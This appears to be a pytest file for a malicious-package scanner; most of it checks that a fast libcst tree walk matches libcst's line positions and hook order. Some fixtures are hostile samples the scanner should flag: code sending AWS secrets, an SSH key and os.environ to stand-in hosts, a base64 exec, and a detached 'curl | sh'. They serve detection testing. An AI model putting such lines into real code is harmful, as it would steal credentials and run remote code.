"""The fast read-only walk must be indistinguishable from libcst's: same hooks in the same
order, and every node's first line equal to what PositionProvider reports."""

from __future__ import annotations

from pathlib import Path

import libcst as cst
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from libcst.metadata import MetadataWrapper, PositionProvider

from scanner.analyzers.python import traverse
from scanner.analyzers.python.engine import Engine
from scanner.analyzers.python.reach import Role
from scanner.model import Context
from scanner.pipeline import scan
from scanner.testing import wheel_bytes, wheel_filename

REPO = Path(__file__).resolve().parents[1]

TRICKY = [
    # decorators, blank lines and comments before statements
    "import os\n\n\n# c\n@dec(\n    1)\n@other\ndef f(a,\n      b=(\n  2)):\n    return a\n",
    # parenthesised expressions whose first token is on a later line
    "x = (\n\n    call(1)\n)\ny = ((\n  a\n  ) + b)\n",
    # backslash continuations and multi-line strings
    "s = 'a' \\\n    'b'\nt = '''one\ntwo\nthree'''\nexec(t)\n",
    "doc = \"\"\"\n\n\"\"\"\nf = f'''{x}\n{y!r:>{w}}\n'''\nz = rb'\\n'\n",
    # Windows and old-Mac line ends
    "a = 1\r\nb = '''x\r\ny'''\r\nc = call(\r\n  b)\r\n",
    # classes, nested functions, lambdas, comprehensions, with, try, match
    "class A(B,\n        metaclass=M):\n    '''d'''\n    def m(self):\n"
    "        return [i for i in (\n  1, 2)]\n\ntry:\n    pass\nexcept (\n  E) as e:\n"
    "    pass\nfinally:\n    x = lambda q: (\n  q)\n",
    "match p:\n    case [\n      1, 2]:\n        pass\n    case {'k': v}:\n        pass\n",
    "async def g():\n    async with a as (\n      b):\n        await c(\n  d)\n",
    "if x: y = 1; z = (\n 2)\nelse: w = 3\n",
    "def f():\n    pass\n# trailing comment without newline",
]


def _positions(module: cst.Module) -> dict[int, int]:
    wrapper = MetadataWrapper(module, unsafe_skip_copy=True)
    return {id(node): position.start.line
            for node, position in wrapper.resolve(PositionProvider).items()}


class _Recorder(cst.CSTVisitor):
    """Logs every visit and leave with the node's class, for both walks."""

    def __init__(self) -> None:
        super().__init__()
        self.events: list[tuple[str, str]] = []

    def on_visit(self, node: cst.CSTNode) -> bool:  # libcst's walk calls this
        self.events.append(("visit", type(node).__name__))
        return True

    def on_leave(self, original_node: cst.CSTNode) -> None:
        self.events.append(("leave", type(original_node).__name__))


class _Named(cst.CSTVisitor):
    """Hooks for a few node classes only, as the analyser's walker has."""

    def __init__(self) -> None:
        super().__init__()
        self.events: list[tuple[str, int]] = []

    def visit_Call(self, node: cst.Call) -> None:
        self.events.append(("call", id(node)))

    def leave_FunctionDef(self, original_node: cst.FunctionDef) -> None:
        self.events.append(("def", id(original_node)))

    def visit_SimpleString(self, node: cst.SimpleString) -> None:
        self.events.append(("str", id(node)))


def _check(source: str) -> None:
    module = cst.parse_module(source)
    expected = _positions(module)
    walk = traverse.Walk(module, cst.CSTVisitor())
    walk.run()
    # PositionProvider leaves out the odd node its code generation never prints, and a leaf
    # the parser shares between places (empty whitespace) has one entry for all of them.
    nodes = _all_nodes(module)
    seen: dict[int, int] = {}
    for node in nodes:
        seen[id(node)] = seen.get(id(node), 0) + 1
    placed = [n for n in nodes if id(n) in expected and seen[id(n)] == 1]
    wrong = [(type(n).__name__, walk.starts.get(id(n)), expected[id(n)]) for n in placed
             if walk.starts.get(id(n)) != expected[id(n)]]
    assert not wrong, wrong[:10]
    # Asking before the walk reaches a node gives the same answer.
    fresh = traverse.Walk(module, cst.CSTVisitor())
    for node in placed:
        assert fresh.line_of(node) == expected[id(node)]
    # The same hooks, in the same order, as libcst's own walk.
    named_fast, named_libcst = _Named(), _Named()
    traverse.Walk(module, named_fast).run()
    module.visit(named_libcst)
    assert named_fast.events == named_libcst.events


def _all_nodes(module: cst.Module) -> list[cst.CSTNode]:
    nodes: list[cst.CSTNode] = []

    class Collect(cst.CSTVisitor):
        def on_visit(self, node: cst.CSTNode) -> bool:
            nodes.append(node)
            return True

    module.visit(Collect())
    return nodes


@pytest.mark.parametrize("source", TRICKY)
def test_lines_and_hooks_match_libcst_on_tricky_code(source):
    _check(source)


def test_lines_match_libcst_on_the_scanners_own_code():
    # Every 8th module (the whole package takes over a minute on a busy machine).
    files = sorted((REPO / "scanner").rglob("*.py"))[::8]
    assert len(files) > 8
    for path in files:
        _check(path.read_text(encoding="utf-8"))


def test_node_order_matches_libcst():
    source = "\n".join(TRICKY[:4])
    module = cst.parse_module(source)
    libcst_order = [type(n).__name__ for n in _all_nodes(module)]
    fast: list[str] = []

    class Visit(cst.CSTVisitor):
        pass

    walk = traverse.Walk(module, Visit())
    original = walk._walk

    def spy(node):
        fast.append(type(node).__name__)
        return original(node)

    walk._walk = spy
    walk.run()
    assert fast == libcst_order


def test_visitors_with_attribute_hooks_use_libcsts_walk():
    class AttributeHook(cst.CSTVisitor):
        def visit_Call_func(self, node: cst.Call) -> None:
            pass

    assert traverse.supported(_Named())
    assert not traverse.supported(AttributeHook())


_ATOMS = st.sampled_from([
    "x = 1\n", "\n", "# c\n", "@d\n", "def f(a,\n  b):\n    return (\n      a)\n",
    "s = '''a\nb'''\n", "t = 'a' \\\n  'b'\n", "call(\n\n  1)\n", "class C:\n    pass\n",
    "y = f'{z}\\n'\n", "if a:\n    pass\nelse:\n    pass\n", "w = (\n  (\n  1))\n",
])


@settings(max_examples=150, deadline=None)
@given(st.lists(_ATOMS, min_size=1, max_size=12))
def test_lines_match_libcst_on_generated_code(parts):
    source = "".join(parts)
    try:
        cst.parse_module(source)
    except cst.ParserSyntaxError:
        return  # a decorator not followed by a def, say
    _check(source)


def test_findings_identical_with_either_walk():
    source = (
        "import base64, os, subprocess, urllib.request\n"
        "TOKEN = os.environ.get('AWS_SECRET_ACCESS_KEY')\n\n\n"
        "@staticmethod\n"
        "def beacon(\n    data):\n"
        "    urllib.request.urlopen(\n        'https://collector.invalid/c',\n"
        "        data=(\n            TOKEN.encode()))\n\n"
        "beacon(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"
        "exec(base64.b64decode(\n  'cHJpbnQoMSk='))\n"
        "subprocess.Popen(['sh', '-c', 'curl x | sh'],\n  start_new_session=True)\n")
    role = Role(Context.IMPORT)
    try:
        traverse.ENABLED = False
        slow = Engine().analyse(source.encode(), "pkg/mod.py", role).findings
    finally:
        traverse.ENABLED = True
    fast = Engine().analyse(source.encode(), "pkg/mod.py", role).findings
    assert fast == slow
    assert {f.rule for f in fast} >= {"python.exec.decoded-payload", "python.process.detached"}
    lines = {f.rule: f.line for f in fast}
    assert lines["python.process.detached"] == 16


def test_a_module_shipped_twice_gives_the_same_findings_in_both_places(tmp_path):
    """The content memo hands out an earlier file's findings under the new path."""
    body = ("import os, urllib.request\n"
            "urllib.request.urlopen('https://c.invalid/x', data=repr(os.environ).encode())\n")
    files = {"evil/__init__.py": body, "evil/copy.py": body}
    result = scan(wheel_bytes("evil", "1.0", files), filename=wheel_filename("evil", "1.0"))
    by_path: dict[str, set] = {}
    for finding in result.findings:
        if finding.rule.startswith("python."):
            by_path.setdefault(finding.path, set()).add((finding.rule, finding.line))
    assert by_path["evil/__init__.py"] == by_path["evil/copy.py"]
    assert by_path["evil/copy.py"], "the beacon is found in the copy too"
    assert result.verdict.level.value == "malicious"


def test_parsing_skips_validation_only_while_it_parses():
    from scanner.analyzers.python.statements import parse_module

    hook = cst.CSTNode.__dict__["__post_init__"]
    module = parse_module("x = (1,\n     2)\n")
    assert cst.CSTNode.__dict__["__post_init__"] is hook
    assert module.code == "x = (1,\n     2)\n"
    # Hand-built nodes are validated again afterwards (a Name cannot be empty).
    with pytest.raises(cst.CSTValidationError):
        cst.Name("")
    # ... also when parsing failed.
    with pytest.raises(cst.ParserSyntaxError):
        parse_module("def (:\n")
    assert cst.CSTNode.__dict__["__post_init__"] is hook


def test_parsing_in_several_threads_leaves_validation_on():
    """Two threads parsing at once must not leave the no-op hook behind (the second to enter
    would otherwise take it for the original)."""
    from concurrent.futures import ThreadPoolExecutor

    from scanner.analyzers.python.statements import parse_module

    hook = cst.CSTNode.__dict__["__post_init__"]
    source = "\n".join(f"x{i} = call({i}, (a, b), [c for c in d])" for i in range(400)) + "\n"
    with ThreadPoolExecutor(4) as pool:
        modules = list(pool.map(parse_module, [source] * 16))
    assert all(m.code == source for m in modules)
    assert cst.CSTNode.__dict__["__post_init__"] is hook
    with pytest.raises(cst.CSTValidationError):
        cst.Name("")


def test_reuse_is_safe_when_scans_run_on_threads(monkeypatch):
    """The gate can scan on threads: concurrent scans sharing modules, with a memo small
    enough to evict all the time, give what one scan alone gives."""
    from concurrent.futures import ThreadPoolExecutor

    from scanner.analyzers.python import memo

    monkeypatch.setattr(memo, "MAX_ENTRIES", 3)
    memo.clear()
    beacon = ("import os, urllib.request\n"
              "urllib.request.urlopen('https://c.invalid/x', data=repr(os.environ).encode())\n")
    wheels = [(wheel_bytes(f"p{i}", "1.0", {f"p{i}/__init__.py": beacon,
                                              f"p{i}/mod{i}.py": f"import subprocess\n"
                                              f"subprocess.run(['ls', '{i}'])\n"}),
               wheel_filename(f"p{i}", "1.0")) for i in range(6)]

    def summary(item):
        result = scan(item[0], filename=item[1])
        return result.verdict.level, sorted((f.rule, f.path, f.line) for f in result.findings)

    alone = [summary(item) for item in wheels]
    with ThreadPoolExecutor(4) as pool:
        together = list(pool.map(summary, wheels * 6))
    assert together == alone * 6
    memo.clear()
